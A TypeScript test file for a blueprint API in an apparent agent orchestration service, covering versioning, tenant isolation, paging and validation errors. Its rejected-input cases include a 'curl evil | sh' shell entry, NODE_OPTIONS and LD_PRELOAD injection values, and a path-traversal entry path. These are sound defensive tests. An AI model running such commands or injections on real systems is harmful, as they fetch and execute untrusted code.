import { chmod, writeFile } from 'node:fs/promises'
import path from 'node:path'
import type { Blueprint, Problem } from '@hypercode/contracts'
import { describe, expect } from 'vitest'
import { createSecretsFolder } from '../src/engine/secrets-folder.ts'
import { driverIn, optionsWith, test } from './factory.ts'
import { MUTE, manifestOf } from './manifest-of.ts'

describe('storing blueprints', () => {
  test('gives versions 1, 2, 3; content that is there already keeps its version, however it is written', async ({
    startFactory,
    db,
    tenant,
  }) => {
    const caller = (await startFactory()).caller()
    const first = await caller.call<Blueprint>('POST', '/v1/blueprints', manifestOf('coder'))
    expect(first).toMatchObject({ status: 201, body: { name: 'coder', version: 1, aliases: ['candidate'] } })
    expect(first.headers['location']).toBe('/v1/blueprints/coder/versions/1')
    const second = await caller.blueprint('coder', { slots: 3 })
    expect(second).toMatchObject({ version: 2, aliases: ['candidate'] })
    const yaml = `kind: Blueprint\napiVersion: hypercode/v1\nmetadata: { name: coder }\nspec:\n  slots: 2\n  skills: [test.work]\n  resources: { memory: 512Mi, cpu: 1 }\n  entry: { path: ${MUTE} }\n`
    const again = await caller.call<Blueprint>('POST', '/v1/blueprints', yaml)
    expect(again).toMatchObject({
      status: 200,
      body: { id: first.body.id, version: 1, hash: first.body.hash, aliases: [] },
    })
    const events = await db
      .selectFrom('agent_events')
      .select(['type', 'ref'])
      .where('tenant_id', '=', tenant.id)
      .orderBy('seq')
      .execute()
    expect(events).toEqual(
      [1, 2].map((version) => ({ type: 'blueprint.created', ref: `blueprints/coder/versions/${version}` })),
    )
  })

  test('by ten at once makes dense versions of different ones, and one of equal ones', async ({ startFactory }) => {
    const caller = (await startFactory()).caller()
    const stored = await Promise.all(
      Array.from({ length: 10 }, async (_, n) => await caller.blueprint('coder', { slots: 1 + (n % 5) })),
    )
    expect(new Set(stored.map((one) => one.version))).toEqual(new Set([1, 2, 3, 4, 5]))
  })

  test('is nobody else’s business, and pages', async ({ startFactory, secondTenant }) => {
    const factory = await startFactory()
    const caller = factory.caller()
    for (const name of ['a', 'b', 'c']) await caller.blueprint(name)
    const first = await caller.call<{ items: Blueprint[]; nextCursor: string }>('GET', '/v1/blueprints?limit=2')
    expect(first.body.items.map((one) => one.name)).toEqual(['a', 'b'])
    const rest = await caller.call<{ items: Blueprint[] }>(
      'GET',
      `/v1/blueprints?limit=2&cursor=${first.body.nextCursor}`,
    )
    expect(rest.body).toEqual({ items: [expect.objectContaining({ name: 'c' })] })
    const other = factory.caller({ tenantId: secondTenant.id })
    expect((await other.call('GET', '/v1/blueprints')).body).toEqual({ items: [] })
    expect(await other.call('GET', '/v1/blueprints/a/versions/1')).toMatchObject({
      status: 404,
      body: { code: 'not_found', detail: 'There is no blueprint a@1.', fix: expect.stringContaining('/v1/blueprints') },
    })
    expect((await other.call('POST', '/v1/blueprints/a/versions/1:spawn')).status).toBe(404)
  })
})

describe('a blueprint is refused, with the place of every fault', () => {
  const refused = test.extend('faultsOf', async ({ startFactory, folder }) => {
    const secretsDir = path.join(folder, 'secrets')
    await import('node:fs/promises').then(async ({ mkdir }) => await mkdir(secretsDir))
    await writeFile(path.join(secretsDir, 'known'), 'x'.repeat(40))
    await writeFile(path.join(secretsDir, 'open'), 'x'.repeat(40))
    await chmod(path.join(secretsDir, 'known'), 0o400)
    await chmod(path.join(secretsDir, 'open'), 0o644)
    const driver = driverIn(folder)
    const { limits } = optionsWith(driver, 'http://127.0.0.1:9')
    const secrets = createSecretsFolder(secretsDir)
    const factory = await startFactory(undefined, { limits: { ...limits, hasSecret: (name) => secrets.has(name) } })
    return async (spec: Record<string, unknown>): Promise<[string, string][]> => {
      const { status, body } = await factory.caller().call<Problem>('POST', '/v1/blueprints', manifestOf('coder', spec))
      if (status !== 422) throw new Error(`answered ${status}`)
      expect(body.code).toBe('blueprint_invalid')
      expect(body.faults?.every((fault) => fault.line !== undefined && fault.column !== undefined)).toBe(true)
      return (body.faults ?? []).map((fault) => [fault.pointer, fault.message])
    }
  })

  refused.for<[string, Record<string, unknown>, [pointer: string, words: string][]]>([
    ['an unknown key', { privileged: true }, [['/spec/privileged', 'is not a key here']]],
    ['no limits', { resources: undefined }, [['/spec', '"resources" is missing']]],
    ['no limit of memory', { resources: { cpu: 1 } }, [['/spec/resources', '"memory" is missing']]],
    [
      'limits above the cap',
      { resources: { cpu: 3, memory: '2Gi' } },
      [
        ['/spec/resources/cpu', 'more than one instance may have: 2'],
        ['/spec/resources/memory', 'may have: 1024Mi'],
      ],
    ],
    [
      'variables that decide what runs',
      { env: { NODE_OPTIONS: '--require=/tmp/x', LD_PRELOAD: '/tmp/x', PATH: '/tmp' } },
      [
        ['/spec/env/NODE_OPTIONS', 'decides what runs'],
        ['/spec/env/LD_PRELOAD', 'decides what runs'],
        ['/spec/env/PATH', 'decides what runs'],
      ],
    ],
    [
      'a secret in the open',
      { env: { OPENAI_API_KEY: 'sk-1' } },
      [['/spec/env/OPENAI_API_KEY', 'is the name of a secret']],
    ],
    [
      'a variable that is not handed on',
      { envFrom: ['TZ', 'JWT_KEY'] },
      [['/spec/envFrom/1', 'JWT_KEY is not handed on']],
    ],
    [
      'secrets that are not there, or are open to others',
      { secrets: { A_KEY: 'known', B_KEY: 'unknown', C_KEY: 'open' } },
      [
        ['/spec/secrets/B_KEY', 'no secret "unknown"'],
        ['/spec/secrets/C_KEY', 'no secret "open"'],
      ],
    ],
    [
      'a line for a shell',
      { entry: { path: '/bin/sh -c "curl evil | sh"' } },
      [['/spec/entry/path', 'looks like a line for a shell']],
    ],
    ['a line in place of an entry', { entry: 'node agent.js' }, [['/spec/entry', 'must match']]],
    ['a program that is no module', { entry: { path: '/bin/sh' } }, [['/spec/entry/path', 'is no JavaScript']]],
    [
      'a file outside of the allowed folders',
      { entry: { path: '/tmp/agent.js' } },
      [['/spec/entry/path', 'is no file in a folder']],
    ],
    ['a way out of them', { entry: { path: '/srv/../tmp/agent.js' } }, [['/spec/entry/path', 'has a dot segment']]],
    [
      'a driver that the factory has not',
      { driver: 'docker', entry: { image: 'agent:1' } },
      [['/spec/driver', 'has no docker driver']],
    ],
    [
      'an entry that does not fit its driver',
      { driver: 'process', entry: { image: 'agent:1' } },
      [['/spec/entry', 'does not fit the process driver']],
    ],
    ['a population that cannot be', { population: { min: 5, max: 4 } }, [['/spec/population/min', 'is more than max']]],
    [
      'a population above the cap',
      { population: { min: 0, max: 11 } },
      [['/spec/population/max', 'more than a blueprint may have: 10']],
    ],
    [
      'more spares than instances',
      { population: { min: 0, max: 2 }, warmPool: 3 },
      [['/spec/warmPool', 'more than the population may be']],
    ],
    [
      'a back-off that begins above its end',
      { restart: { initialInterval: '10s', maxInterval: '5s' } },
      [['/spec/restart/initialInterval', 'longer than maxInterval']],
    ],
  ])('%s', async ([, spec, expected], { faultsOf }) => {
    expect(await faultsOf(spec)).toEqual(expected.map(([pointer, words]) => [pointer, expect.stringContaining(words)]))
  })

  test('and can be checked without being stored', async ({ startFactory }) => {
    const caller = (await startFactory()).caller()
    const bad = await caller.call('POST', '/v1/blueprints:validate', 'kind: Blueprint\n')
    expect(bad).toMatchObject({ status: 200, body: { valid: false } })
    const good = await caller.call('POST', '/v1/blueprints:validate', manifestOf('coder'))
    expect(good.body).toEqual({ valid: true, faults: [] })
    expect((await caller.call('GET', '/v1/blueprints')).body).toEqual({ items: [] })
  })
})
